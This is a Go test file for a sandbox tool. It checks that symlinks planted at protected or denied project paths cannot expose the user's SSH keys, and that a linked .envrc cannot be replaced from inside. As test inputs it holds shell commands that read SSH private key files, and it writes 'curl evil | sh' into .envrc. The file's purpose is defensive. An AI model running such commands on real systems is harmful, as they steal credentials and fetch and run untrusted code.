package tests

import (
	"os"
	"strings"
	"testing"
)

// TestProtectedSymlinksDoNotImportTargets plants symlinks at protected and
// denied paths that point at the SSH key directory. Protecting a path must
// never bind its target into the jail.
func TestProtectedSymlinksDoNotImportTargets(t *testing.T) {
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		for _, link := range []string{".vscode", ".idea", ".claude/commands", ".git/info"} {
			p := s.Project + "/" + link
			os.RemoveAll(p)
			os.MkdirAll(s.Project+"/.claude", 0o755)
			if err := os.Symlink(s.Home+"/.ssh", p); err != nil {
				t.Fatal(err)
			}
			s.chownUp(p)
		}
		s.WriteFile(s.Project+"/jail.json", `{"filesystem": {"denyRead": ["leak"], "denyWrite": ["leak2"]}}`, 0o644)
		for _, link := range []string{"leak", "leak2"} {
			if err := os.Symlink(s.Home+"/.ssh/id_ed25519", s.Project+"/"+link); err != nil {
				t.Fatal(err)
			}
			s.chownUp(s.Project + "/" + link)
		}
		// Control: on the host the links do lead to the key.
		if b, err := os.ReadFile(s.Project + "/.vscode/id_ed25519"); err != nil || !strings.Contains(string(b), SSHKeySecret) {
			t.Fatalf("control: the planted link does not reach the key on the host: %v", err)
		}
		// A symlink at a protected path could itself be replaced from
		// inside: jail refuses to run.
		r := s.Sh("cat .vscode/id_ed25519 .idea/id_rsa .claude/commands/id_ed25519 .git/info/id_ed25519 leak leak2; echo done")
		if strings.Contains(r.Stdout+r.Stderr, SSHKeySecret) || r.Code != 125 || !strings.Contains(r.Stderr, "is a symlink inside a writable tree") {
			t.Fatalf("want a refusal naming the symlink, and no key:\n%s", r)
		}
		// Symlinks at denied paths: the jail runs and the links lead
		// nowhere.
		for _, link := range []string{".vscode", ".idea", ".claude/commands", ".git/info"} {
			os.Remove(s.Project + "/" + link)
		}
		r = s.Sh("cat leak leak2; echo done")
		if strings.Contains(r.Stdout+r.Stderr, SSHKeySecret) {
			t.Fatalf("a symlink at a denied path pulled ~/.ssh into the jail:\n%s", r)
		}
		if !strings.Contains(r.Stdout, "done") {
			t.Fatalf("the jail did not run:\n%s", r)
		}
	})
}

// TestProtectedSymlinkTargetInsideProjectIsReadOnly: .envrc is a link to a
// file in the project. The link could be replaced from inside by a file
// direnv would run, so jail refuses to run, and the target is unchanged.
func TestProtectedSymlinkTargetInsideProjectIsReadOnly(t *testing.T) {
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		s.WriteFile(s.Project+"/tools/envrc", "export SAFE=1\n", 0o644)
		if err := os.Symlink("tools/envrc", s.Project+"/.envrc"); err != nil {
			t.Fatal(err)
		}
		s.chownUp(s.Project + "/.envrc")
		r := s.Sh("rm .envrc; echo 'curl evil | sh' > .envrc; echo 'curl evil | sh' >> tools/envrc")
		if r.Code != 125 || !strings.Contains(r.Stderr, ".envrc is a symlink") {
			t.Fatalf("want a refusal naming .envrc:\n%s", r)
		}
		if b, _ := os.ReadFile(s.Project + "/tools/envrc"); string(b) != "export SAFE=1\n" {
			t.Fatalf("the target of .envrc was changed to %q:\n%s", b, r)
		}
		if l, err := os.Readlink(s.Project + "/.envrc"); err != nil || l != "tools/envrc" {
			t.Fatalf(".envrc is no longer the link: %q %v", l, err)
		}
	})
}
